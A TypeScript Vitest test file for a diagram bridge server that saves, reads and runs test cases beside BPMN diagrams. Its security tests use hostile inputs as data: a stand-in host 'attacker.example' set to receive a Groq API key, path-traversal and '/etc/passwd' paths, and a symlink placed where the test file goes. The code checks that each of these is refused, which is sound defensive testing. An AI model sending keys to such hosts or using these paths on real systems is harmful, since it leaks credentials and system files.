import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { RunningBridge } from '../../menu/bridge/server';
import { completion, json, type FaultServer } from '../support/fault-server';

import { SECRET, groqTask, memorySecrets, post, runtimeWithoutWaits, seenAnswers, startBridge, startBridgeAndModel } from './bridge-harness';

const DIAGRAM_XML = '<?xml version="1.0" encoding="UTF-8"?>\n<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" />\n';

const capital = {
  name: 'capital',
  task: 'Ask',
  variables: { userMessage: 'What is the capital of France?' },
  expect: { outcome: 'complete', variables: { aiReply: { contains: 'Paris' } } }
};

describe('bridge: test cases beside a diagram', () => {
  let llm: FaultServer;
  let bridge: RunningBridge;
  let stop: () => Promise<void>;
  let dir: string;
  let url: string;

  beforeAll(async () => {
    ({ llm, bridge, stop } = await startBridgeAndModel());
    url = llm.route('/v1/chat/completions', json(200, completion(`Paris. (key ${SECRET})`)));
    dir = await mkdtemp(path.join(tmpdir(), 'catalyst-bridge-tests-'));
  });

  afterAll(async () => {
    await stop();
    await rm(dir, { recursive: true, force: true });

    // then, over every answer of this file
    expect(seenAnswers.join('\n')).not.toContain(SECRET);
  });

  /** A saved diagram in its own folder; returns its absolute path. */
  async function diagram(name = 'order'): Promise<string> {
    const folder = await mkdtemp(path.join(dir, `${name}-`));
    const file = path.join(folder, `${name}.bpmn`);

    await writeFile(file, DIAGRAM_XML);

    return file;
  }

  const task = (extra = {}) => groqTask(url, { 'catalyst.secretName': 'groq_api_key', 'catalyst.responseMapping': '{"aiReply": "choices[0].message.content"}', ...extra });

  describe('read and write', () => {

    it('a diagram without cases reads as an empty suite, naming the file the cases will go to', async () => {

      // given
      const file = await diagram();

      // when
      const { status, json: answer } = await post(bridge, '/test-cases/read', { diagram: file });

      // then
      expect(status).toBe(200);
      expect(answer).toEqual({ testFile: file.replace(/\.bpmn$/, '.catalyst-tests.json'), exists: false, suite: { version: 1, cases: [] }, recorded: [] });
    });

    it('writes the cases beside the diagram as catalyst test reads them, and reads them back', async () => {

      // given
      const file = await diagram();

      // when
      const written = await post(bridge, '/test-cases/write', { diagram: file, suite: { version: 1, cases: [ capital ] } });
      const read = await post(bridge, '/test-cases/read', { diagram: file });
      const onDisk = await readFile(file.replace(/\.bpmn$/, '.catalyst-tests.json'), 'utf8');

      // then
      expect(written.status).toBe(200);
      expect(read.json.exists).toBe(true);
      expect(read.json.suite.cases).toEqual([ capital ]);
      expect(onDisk).toMatch(/^\{\n {2}"\$schema": "https:\/\/catalyst-connector.com\/schemas\/catalyst-tests.schema.json",\n {2}"version": 1,/);
    });

    it('refuses cases the file format does not allow with 422 naming the place, and writes nothing', async () => {

      // given
      const file = await diagram();

      // when
      const { status, json: answer } = await post(bridge, '/test-cases/write', { diagram: file, suite: { version: 1, cases: [ { ...capital, expect: { maxTokens: -1 } } ] } });

      // then
      expect(status).toBe(422);
      expect(answer.error.code).toBe('TEST_FILE_INVALID');
      expect(answer.error.message).toBe('not saved: cases[0].expect.maxTokens: must be >= 0');
      await expect(readFile(file.replace(/\.bpmn$/, '.catalyst-tests.json'))).rejects.toThrow(/ENOENT/);
    });

    it('reports a broken test file with 422 and its file:line:column', async () => {

      // given
      const file = await diagram();
      await writeFile(file.replace(/\.bpmn$/, '.catalyst-tests.json'), '{ "version": 2, "cases": [] }');

      // when
      const { status, json: answer } = await post(bridge, '/test-cases/read', { diagram: file });

      // then
      expect(status).toBe(422);
      expect(answer.error.message).toBe(`${file.replace(/\.bpmn$/, '.catalyst-tests.json')}:1:14: version: must be 1`);
    });
  });

  describe('path rules', () => {

    it.each([
      [ 'a relative path', 'order.bpmn', 'diagram: must be an absolute path without . or .. segments, not "order.bpmn"' ],
      [ 'a path that climbs out', '/tmp/x/../etc/order.bpmn', 'diagram: must be an absolute path without . or .. segments, not "/tmp/x/../etc/order.bpmn"' ],
      [ 'a file that is not a diagram', '/etc/passwd', 'diagram: must name a .bpmn diagram, not "passwd"' ],
      [ 'no path at all', 42, 'diagram: must be the absolute path of the open .bpmn diagram' ]
    ])('refuses %s with 400', async (_what, value, message) => {

      // when
      const { status, json: answer } = await post(bridge, '/test-cases/read', { diagram: value });

      // then
      expect(status).toBe(400);
      expect(answer.error).toEqual({ code: 'DIAGRAM_PATH', message, field: 'diagram' });
    });

    it('refuses a .bpmn path that is not a saved BPMN diagram with 404', async () => {

      // given
      const fake = path.join(dir, 'fake.bpmn');
      await writeFile(fake, 'not a diagram');

      // when
      const missing = await post(bridge, '/test-cases/write', { diagram: path.join(dir, 'missing.bpmn'), suite: { version: 1, cases: [] } });
      const notBpmn = await post(bridge, '/test-cases/write', { diagram: fake, suite: { version: 1, cases: [] } });

      // then
      expect(missing.status).toBe(404);
      expect(notBpmn.status).toBe(404);
      expect(notBpmn.json.error.code).toBe('DIAGRAM_NOT_FOUND');
    });

    it('does not write through a link placed where the test file goes', async () => {

      // given
      const file = await diagram();
      const elsewhere = path.join(dir, 'elsewhere.txt');
      await writeFile(elsewhere, 'keep me');
      await symlink(elsewhere, file.replace(/\.bpmn$/, '.catalyst-tests.json'));

      // when
      const { status, json: answer } = await post(bridge, '/test-cases/write', { diagram: file, suite: { version: 1, cases: [] } });

      // then
      expect(status).toBe(400);
      expect(answer.error.code).toBe('TEST_FILE_NOT_REGULAR');
      expect(await readFile(elsewhere, 'utf8')).toBe('keep me');
    });

    it('refuses to read a test file over the size limit with 413', async () => {

      // given
      const file = await diagram();
      await writeFile(file.replace(/\.bpmn$/, '.catalyst-tests.json'), ' '.repeat(1024 * 1024 + 1));

      // when
      const { status, json: answer } = await post(bridge, '/test-cases/read', { diagram: file });

      // then
      expect(status).toBe(413);
      expect(answer.error.code).toBe('TEST_FILE_TOO_LARGE');
    });
  });

  describe('running a case', () => {

    it('live: runs the case on the properties sent and answers each expectation\'s verdict', async () => {

      // given
      const file = await diagram();

      // when
      const { status, json: answer } = await post(bridge, '/test-cases/run', { diagram: file, properties: task(), case: capital, mode: 'live' });

      // then
      expect(status).toBe(200);
      expect(answer.recorded).toBe(false);
      expect(answer.result).toMatchObject({
        name: 'capital',
        passed: true,
        mode: 'live',
        checks: [ { label: 'outcome is complete', passed: true }, { label: 'aiReply contains "Paris"', passed: true } ]
      });
    });

    it('live and record on a task whose host is not trusted for its key answer 403 KEY_NOT_TRUSTED and send nothing', async () => {

      // given: a diagram that points the Groq key at attacker.example, which this bridge's
      // fetch (a stand-in for DNS) resolves to the fault server, so a key sent would arrive
      const routing = ((input: string | URL | Request, init?: RequestInit) =>
        fetch(String(input).replace('https://attacker.example', llm.origin), init)) as typeof fetch;
      const routed = await startBridge({ secrets: memorySecrets(), runtime: runtimeWithoutWaits(), fetch: routing });
      const file = await diagram();
      const hostile = task({ 'catalyst.url': 'https://attacker.example/v1/chat/completions' });
      const before = llm.requests.length;

      // when
      let live: Awaited<ReturnType<typeof post>>;
      let record: Awaited<ReturnType<typeof post>>;

      try {
        live = await post(routed, '/test-cases/run', { diagram: file, properties: hostile, case: capital, mode: 'live' });
        record = await post(routed, '/test-cases/run', { diagram: file, properties: hostile, case: capital, mode: 'record' });
      } finally {
        await routed.close();
      }

      // then
      for (const answer of [ live, record ]) {
        expect(answer.status).toBe(403);
        expect(answer.json.error).toMatchObject({ code: 'KEY_NOT_TRUSTED', trust: { host: 'attacker.example', secret: 'groq_api_key' } });
      }

      expect(llm.requests.length).toBe(before);
    });

    it('record saves the recording beside the diagram without the key; replay then passes without the network', async () => {

      // given
      const file = await diagram();
      const recorded = await post(bridge, '/test-cases/run', { diagram: file, properties: task(), case: capital, mode: 'record' });
      const requestsBefore = llm.requests.length;

      // when
      const replayed = await post(bridge, '/test-cases/run', { diagram: file, properties: task(), case: capital, mode: 'replay' });
      const saved = await readFile(file.replace(/\.bpmn$/, '.catalyst-recordings.json'), 'utf8');
      const listed = await post(bridge, '/test-cases/read', { diagram: file });

      // then
      expect(recorded.json.recorded).toBe(true);
      expect(saved).not.toContain(SECRET);
      expect(replayed.json.result).toMatchObject({ passed: true, mode: 'replay' });
      expect(llm.requests.length).toBe(requestsBefore);
      expect(listed.json.recorded).toEqual([ 'capital' ]);
    });

    it('two cases recorded at the same time both keep their recording', async () => {

      // given
      const file = await diagram();
      const other = { ...capital, name: 'capital again' };

      // when
      await Promise.all([
        post(bridge, '/test-cases/run', { diagram: file, properties: task(), case: capital, mode: 'record' }),
        post(bridge, '/test-cases/run', { diagram: file, properties: task(), case: other, mode: 'record' })
      ]);
      const saved = JSON.parse(await readFile(file.replace(/\.bpmn$/, '.catalyst-recordings.json'), 'utf8'));

      // then
      expect(Object.keys(saved.recordings)).toEqual([ 'capital', 'capital again' ]);
    });

    it('replay after a prompt edit fails with "the prompt changed"', async () => {

      // given
      const file = await diagram();
      await post(bridge, '/test-cases/run', { diagram: file, properties: task(), case: capital, mode: 'record' });
      const edited = task({ 'catalyst.payload': '{"model": "fault-model", "messages": [{"role": "user", "content": "Be brief. ${userMessage}"}]}' });

      // when
      const { json: answer } = await post(bridge, '/test-cases/run', { diagram: file, properties: edited, case: capital, mode: 'replay' });

      // then
      expect(answer.result.passed).toBe(false);
      expect(answer.result.error).toMatch(/^the prompt changed: the rendered request no longer matches the recording .*re-record/);
    });

    it('refuses a case the format does not allow with 400 naming the field', async () => {

      // given
      const file = await diagram();

      // when
      const { status, json: answer } = await post(bridge, '/test-cases/run', { diagram: file, properties: task(), case: { ...capital, expect: { outcome: 'done' } }, mode: 'live' });

      // then
      expect(status).toBe(400);
      expect(answer.error).toEqual({ code: 'BODY_INVALID', message: 'case: expect.outcome: must be one of "complete", "bpmnError", "failure"', field: 'case' });
    });

    it('refuses an unknown mode with 400', async () => {

      // given
      const file = await diagram();
      await mkdir(path.dirname(file), { recursive: true });

      // when
      const { status, json: answer } = await post(bridge, '/test-cases/run', { diagram: file, properties: task(), case: capital, mode: 'dry' });

      // then
      expect(status).toBe(400);
      expect(answer.error.field).toBe('mode');
    });
  });
});
